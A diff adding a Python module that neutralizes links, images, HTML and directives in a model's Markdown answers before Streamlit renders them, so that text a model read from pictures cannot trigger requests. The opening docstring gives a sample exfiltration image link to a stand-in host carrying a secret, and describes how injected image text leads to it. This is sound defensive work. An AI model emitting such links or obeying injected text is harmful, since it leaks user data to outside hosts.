@@ -1,0 +1,105 @@
+"""A model's answer made harmless: no link, no picture, no directive of Streamlit's Markdown survives, the words do.
+
+A model repeats what it read in a picture, so its text is as foreign as the picture. In Markdown that is a way out:
+``![](https://elsewhere/?secret)`` is fetched when it is shown (CVE-2025-32711). Here the few marks that begin a link,
+a picture, HTML or a directive are parted by an invisible U+2060 WORD JOINER. That holds in every context - in code,
+in a table, nested, escaped or half streamed - because it does not depend on parsing Markdown the way the browser's
+parser does: without the adjacent pair there is nothing to parse.
+"""
+
+from __future__ import annotations
+
+import re
+from collections.abc import Callable
+from dataclasses import dataclass
+
+__all__ = ["Code", "Prose", "harmless", "pieces"]
+
+JOINER = "\u2060"
+
+_PAIRS = re.compile(
+    r"""
+    (?P<bracket>\])(?=[(\[:])            # inline link or picture, reference, definition, footnote
+  | (?P<angle><)(?=[A-Za-z/!?])          # autolink, HTML
+  | (?P<colon>:)(?=//|[A-Za-z_]|[+-]?\w+:)  # scheme of a bare address; :red[...], :material/...:, :smile:
+  | (?P<www>\b[wW]{3})(?=\.)             # GFM's bare address
+  | (?P<at>@)(?=[\w-])                   # GFM's bare mail address
+    """,
+    re.VERBOSE,
+)
+_FENCE = re.compile(r"[ \t]*(?P<fence>`{3,}|~{3,})[ \t]*(?P<language>[\w+#.-]*)[^`\n]*")
+_CODE_SPAN = re.compile(r"(?<!`)(`+)(?!`)(?:.+?)(?<!`)\1(?!`)", re.DOTALL)
+# A formula, by pandoc's rule: no space inside the dollars, no digit after them. "$5 and $6" is no formula.
+_FORMULA = re.compile(r"\$\$.+?\$\$|\$(?![\s$])(?:[^$\n\\]|\\.)*?(?<!\s)\$(?!\d)", re.DOTALL)
+_LOOSE = re.compile(r"\$|(?<!~)~(?!~)|(?<=\d)\*(?=\d)")
+
+
+@dataclass(frozen=True, slots=True)
+class Prose:
+    """Markdown that is safe to render."""
+
+    text: str
+
+
+@dataclass(frozen=True, slots=True)
+class Code:
+    """A fenced block, to be shown letter by letter and never as Markdown."""
+
+    text: str
+    language: str = ""
+
+
+def harmless(text: str) -> str:
+    """Markdown without links, pictures, HTML or directives.
+
+    Also keeps what OCR text often holds from turning into formatting: ``$5 … $6`` (no formula), ``3~5 天 10~15``
+    (no strike-through), ``5*10*20`` (no emphasis); and keeps line breaks.
+
+    Args:
+        text: Markdown from a model.
+    """
+    parted = _PAIRS.sub(lambda found: found[0] + JOINER, text)
+    return re.sub(r"(?<=\S)[ \t]*\n(?=[^\n])", "  \n", _outside(_CODE_SPAN, parted, _outside_formulas))
+
+
+def pieces(text: str) -> list[Prose | Code]:
+    """An answer as prose and fenced code, in order; a fence that is still open runs to the end."""
+    found: list[Prose | Code] = []
+    prose: list[str] = []
+    code: list[str] | None = None
+    fence = language = ""
+
+    def end_prose() -> None:
+        if joined := "\n".join(prose).strip("\n"):
+            found.append(Prose(harmless(joined)))
+        prose.clear()
+
+    for line in text.split("\n"):
+        opening = _FENCE.fullmatch(line)
+        if code is None and opening:
+            end_prose()
+            code, fence, language = [], opening["fence"], opening["language"]
+        elif code is None:
+            prose.append(line)
+        elif (mark := line.strip()) and set(mark) == {fence[0]} and len(mark) >= len(fence):
+            found.append(Code("\n".join(code), language))
+            code = None
+        else:
+            code.append(line)
+    end_prose()
+    if code is not None:
+        found.append(Code("\n".join(code), language))
+    return found
+
+
+def _outside_formulas(text: str) -> str:
+    return _outside(_FORMULA, text, lambda part: _LOOSE.sub(r"\\\g<0>", part))
+
+
+def _outside(pattern: re.Pattern[str], text: str, change: Callable[[str], str]) -> str:
+    """Changes what a pattern leaves over."""
+    changed, end = [], 0
+    for found in pattern.finditer(text):
+        changed += [change(text[end : found.start()]), found[0]]
+        end = found.end()
+    return "".join([*changed, change(text[end:])])
